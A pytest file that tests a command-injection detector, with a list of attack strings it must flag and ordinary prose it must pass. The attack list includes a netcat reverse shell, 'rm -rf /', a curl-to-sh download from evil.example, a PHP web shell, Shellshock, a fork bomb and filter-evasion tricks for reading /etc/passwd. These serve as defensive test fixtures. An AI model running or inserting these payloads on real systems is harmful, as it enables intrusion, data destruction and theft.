import pytest

from doorward.controls.inspect.judges import command

ATTACKS = [
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && whoami",
    "x | nc -e /bin/sh 10.0.0.1 4444",
    "a.png; rm -rf /",
    "$(whoami)",
    "report-`id`.pdf",
    "a;cat${IFS}/etc/passwd",
    ";c'a't /etc/passwd",
    ";c\\at /etc/passwd",
    "|{cat,/etc/passwd}",
    "a;w$@hoami",
    "& ping -n 10 127.0.0.1",
    "| type C:\\boot.ini",
    "() { :;}; /bin/bash -c 'id'",
    "127.0.0.1\ncat /etc/passwd",
    "; sleep 5",
    "x; curl http://evil.example/x | sh",
    "<?php system($_GET['c']); ?>",
    'os.system("cat /etc/passwd")',
    "bash -c 'curl http://evil.example'",
    "powershell -enc SQBFAFgA",
    "; /usr/bin/id",
    "/bin/ls -la",
    ":(){ :|:& };:",
    "& for %x in (a b) do cmd",
    ";lastlog -u root",
]
HARMLESS = [
    "cats & dogs; birds",
    "A|B",
    "price: $(100)",
    "name;id;email",
    "name|id|email",
    "rock; paper; scissors",
    "AT&T",
    "R&D; Q&A",
    "time | date | host",
    "Run `npm install` and then `npm start`.",
    "Use `cat file` to read it.",
    "&copy; 2024",
    "Please find the file; sort it by date, then cut it.",
    "sleep; eat; repeat",
    "if (a && b || c) { sort(x); }",
    "Notes:\ncat food\ndate night",
    "curl https://example.com/",
    "npm install && npm test",
    "she > he; he < she",
    "C:\\Users\\Ann\\letter.docx",
    "who & what; when",
    "func main() { run() }; ok",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_makes_a_shell_run_something_is_an_attack(text: str) -> None:
    verdict = command.judge(text)
    assert verdict is not None
    assert verdict.threat == "command"


@pytest.mark.parametrize("text", HARMLESS)
def test_separators_and_program_names_in_prose_are_not(text: str) -> None:
    assert command.judge(text) is None


def test_more_separators_than_may_be_judged_are_refused_not_skipped() -> None:
    assert command.judge(";a.b" * 3_000) is not None
